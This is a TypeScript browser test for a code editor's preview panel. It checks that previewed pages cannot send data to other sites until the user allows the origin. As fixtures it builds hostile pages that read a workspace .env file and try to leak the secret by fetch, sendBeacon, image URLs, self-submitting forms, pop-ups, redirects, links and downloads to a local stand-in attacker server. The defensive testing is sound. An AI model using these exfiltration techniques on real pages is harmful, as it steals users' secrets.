// Issue 30: nothing leaves a built-in preview without the user seeing where. A page in the
// workspace reads the workspace's .env and tries to send it to an "attacker" (a local server that
// logs what arrives) every way a page can: fetch POST, sendBeacon, an image whose address carries
// the secret, a form that submits itself, a pop-up. The preview's policy blocks them all before any
// request is made; the Preview panel lists the origin with "Allow <origin>", and only after the
// user presses it do the page's requests arrive (the pop-up never: previews get no pop-ups).
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "playwright-core";
import { describe, expect, it } from "vitest";
import { useBrowser, waitForWorkbench } from "../support/browser";
import { importZip } from "../support/preview-sites";

const browser = useBrowser();
const SECRET = "hunter2-preview-secret";

interface Arrival {
  method: string;
  path: string;
  body: string;
}

async function startAttacker(): Promise<{ server: Server; origin: string; arrivals: Arrival[] }> {
  const arrivals: Arrival[] = [];
  const server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on("data", (chunk: Buffer) => chunks.push(chunk));
    req.on("end", () => {
      arrivals.push({ method: req.method ?? "", path: req.url ?? "", body: Buffer.concat(chunks).toString() });
      res.writeHead(200, { "Content-Type": "text/plain", "Access-Control-Allow-Origin": "*", "Cross-Origin-Resource-Policy": "cross-origin" });
      res.end("ok");
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { server, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, arrivals };
}

function hostilePage(attacker: string): string {
  return `<!doctype html>
<html><head><meta charset="utf-8"><title>Totally normal app</title></head>
<body><h1>Hello</h1>
<form id="leak" method="POST" action="${attacker}/form"><input type="hidden" name="s" id="s"></form>
<script>
fetch(".env").then((r) => r.text()).then((env) => {
  const secret = env.trim();
  const q = encodeURIComponent(secret);
  fetch("${attacker}/fetch", { method: "POST", body: secret, mode: "no-cors" }).catch(() => {});
  try { navigator.sendBeacon("${attacker}/beacon", secret); } catch {}
  const img = new Image();
  img.src = "${attacker}/img?s=" + q;
  document.body.append(img);
  try { window.open("${attacker}/popup?s=" + q); } catch {}
  document.getElementById("s").value = secret;
  document.body.dataset.sent = "yes";
  // Last: the form navigates the page away.
  setTimeout(() => document.getElementById("leak").submit(), 500);
});
</script></body></html>
`;
}

async function openPreview(page: Page): Promise<void> {
  await page.getByRole("tab", { name: "Preview" }).click();
  await page.getByRole("button", { name: "Open preview" }).click();
}

describe("built-in preview: requests to other sites", () => {
  it("blocks every way out until the user allows the origin, then lets the page's requests through", async () => {
    const attacker = await startAttacker();
    browser.afterTest(() => new Promise<void>((resolve) => attacker.server.close(() => resolve())));
    const { page } = await browser.open("?runtime=browser");
    await waitForWorkbench(page);
    await importZip(page, "app.zip", [
      { name: "app/.env", data: `SECRET=${SECRET}\n` },
      { name: "app/index.html", data: hostilePage(attacker.origin) },
    ]);
    await openPreview(page);

    const site = page.frameLocator('iframe[title="Preview"]').frameLocator('iframe[title="Previewed page"]');
    await expect.poll(() => site.locator("body").getAttribute("data-sent", { timeout: 20_000 }), { timeout: 30_000 }).toBe("yes");
    const allow = page.getByRole("button", { name: `Allow ${attacker.origin}`, exact: true });
    await expect.poll(() => allow.count(), { timeout: 10_000 }).toBe(1);
    // Time for the form to submit itself and anything late to arrive.
    await page.waitForTimeout(1500);
    expect(attacker.arrivals).toEqual([]);
    const blocked = page.getByRole("region", { name: "Blocked requests" });
    expect(await blocked.textContent()).toContain("fetch, beacon or socket");
    expect(await blocked.textContent()).toContain("image");
    expect(await blocked.textContent()).toContain("form");
    if (process.env.WEBCODE_SCREENSHOTS) await page.screenshot({ path: process.env.WEBCODE_SCREENSHOTS });

    await allow.click();
    await expect.poll(() => allow.count(), { timeout: 5000 }).toBe(0);
    const paths = () => attacker.arrivals.map((a) => a.path.split("?")[0]).sort();
    await expect.poll(paths, { timeout: 20_000 }).toEqual(["/beacon", "/fetch", "/form", "/img"]);
    expect(attacker.arrivals.find((a) => a.path === "/fetch")?.body).toBe(`SECRET=${SECRET}`);
    expect(attacker.arrivals.find((a) => a.path.startsWith("/img"))?.path).toContain(encodeURIComponent(`SECRET=${SECRET}`));
    // Previews open no pop-ups at all, allowed origin or not.
    expect(page.context().pages()).toHaveLength(1);
  });

  it("blocks the page navigating itself elsewhere (script, link, refresh, download) until the user allows the origin", async () => {
    const attacker = await startAttacker();
    browser.afterTest(() => new Promise<void>((resolve) => attacker.server.close(() => resolve())));
    const { page } = await browser.open("?runtime=browser");
    await waitForWorkbench(page);
    const read = `fetch(".env").then((r) => r.text()).then((env) => { const s = encodeURIComponent(env.trim()); document.body.dataset.ready = "yes";`;
    await importZip(page, "app.zip", [
      { name: "app/.env", data: `SECRET=${SECRET}\n` },
      { name: "app/index.html", data: `<!doctype html><body><script>${read} location.href = "${attacker.origin}/script?s=" + s; });</script></body>` },
      { name: "app/link.html", data: `<!doctype html><body><a id="a" href="${attacker.origin}/link">a</a><script>${read} const a = document.getElementById("a"); a.href += "?s=" + s; a.click(); });</script></body>` },
      { name: "app/download.html", data: `<!doctype html><body><a id="a" download="x.txt" href="${attacker.origin}/download">a</a><script>${read} const a = document.getElementById("a"); a.href += "?s=" + s; a.click(); });</script></body>` },
      { name: "app/refresh.html", data: `<!doctype html><head><meta http-equiv="refresh" content="0;url=${attacker.origin}/refresh"></head><body>refresh</body>` },
    ]);
    await openPreview(page);
    const allow = page.getByRole("button", { name: `Allow ${attacker.origin}`, exact: true });
    await expect.poll(() => allow.count(), { timeout: 30_000 }).toBe(1);
    const address = page.getByRole("textbox", { name: "Preview path" });
    for (const path of ["/link.html", "/download.html", "/refresh.html"]) {
      await address.fill(path);
      await address.press("Enter");
      await page.waitForTimeout(1500);
    }
    expect(attacker.arrivals).toEqual([]);
    expect(await page.getByRole("region", { name: "Blocked requests" }).textContent()).toContain("navigation");

    // Allowed: the page (the refresh one, shown last) reaches it.
    await allow.click();
    await expect.poll(() => attacker.arrivals.map((a) => a.path), { timeout: 20_000 }).toContain("/refresh");
  });
});
